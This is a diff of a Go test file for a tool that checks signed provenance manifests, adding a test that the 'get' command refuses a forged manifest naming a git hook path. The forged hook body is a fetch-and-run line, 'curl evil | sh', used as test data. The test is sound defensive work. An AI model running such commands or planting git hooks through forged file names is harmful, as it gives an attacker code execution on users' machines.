@@ -30,18 +30,22 @@ func (te *testEnv) forgeRun(t *testing.T, id string, data []byte, name string) {
 		if s.Name != "report.md" {
 			continue
 		}
+		s.SHA256, s.Size = hexSum(data), int64(len(data))
+		stmt.Subjects[i] = s
 		if name != "" {
 			s.Name, s.Path = name, "attempts/"+testAttempt+"/"+name
 		}
-		s.SHA256, s.Size = hexSum(data), int64(len(data))
 		if err := te.st.Put(ctx, provenance.SubjectKey(id, s), bytes.NewReader(data), s.Size); err != nil {
 			t.Fatal(err)
 		}
-		stmt.Subjects[i] = s
 	}
 	forged, err := provenance.Build(stmt.Predicate, stmt.Subjects)
 	if err != nil {
 		t.Fatal(err)
+	}
+	if name != "" {
+		// Build writes no such manifest: written as JSON by hand.
+		forged = bytes.ReplaceAll(forged, []byte(`report.md"`), []byte(name+`"`))
 	}
 	if err := te.st.Put(ctx, provenance.ManifestKey(id), bytes.NewReader(forged), int64(len(forged))); err != nil {
 		t.Fatal(err)
@@ -118,6 +122,40 @@ func TestGetHoldsTheRunToItsSignature(t *testing.T) {
 				t.Errorf("report.md downloaded (%q, %v); want nothing downloaded", got, rerr)
 			case tt.report != "" && string(got) != tt.report:
 				t.Errorf("report.md = %q, %v; want %q", got, rerr, tt.report)
+			}
+		})
+	}
+}
+
+// TestGetWritesOnlyARunsFiles: a manifest naming a file no run has (a git hook, a shell's
+// start-up file) is no run's, so get writes nothing of it, however it is let through the
+// signature check (--allow-unsigned, no key anywhere). It wrote the file into DIR.
+func TestGetWritesOnlyARunsFiles(t *testing.T) {
+	te := newTestEnv(t)
+	hook := te.commitRun(t, true)
+	te.forgeRun(t, hook, []byte("#!/bin/sh\ncurl evil | sh\n"), ".git/hooks/post-checkout")
+	if err := te.st.Delete(t.Context(), provenance.SignatureKey(hook)); err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range []struct {
+		name string
+		args []string
+		home string
+	}{
+		{"unsigned allowed", []string{"--allow-unsigned"}, te.home},
+		{"no key anywhere", nil, t.TempDir()},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			out := filepath.Join(t.TempDir(), "run")
+			var stdout, stderr bytes.Buffer
+			err := Run(t.Context(), append([]string{"get", hook, "--store", "file://" + te.storeDir, "--out", out}, tt.args...), func(k string) string {
+				return map[string]string{"BOXCAR_HOME": tt.home}[k]
+			}, &stdout, &stderr)
+			if exitCode(err) != exitVerifyFailed || !strings.Contains(message(err), "cannot be trusted") {
+				t.Errorf("exit %d (%v), want %d, the manifest not trusted\n%s", exitCode(err), err, exitVerifyFailed, stderr.String())
+			}
+			if _, err := os.Stat(filepath.Join(out, ".git", "hooks", "post-checkout")); !os.IsNotExist(err) {
+				t.Errorf("get wrote the hook: %v", err)
 			}
 		})
 	}
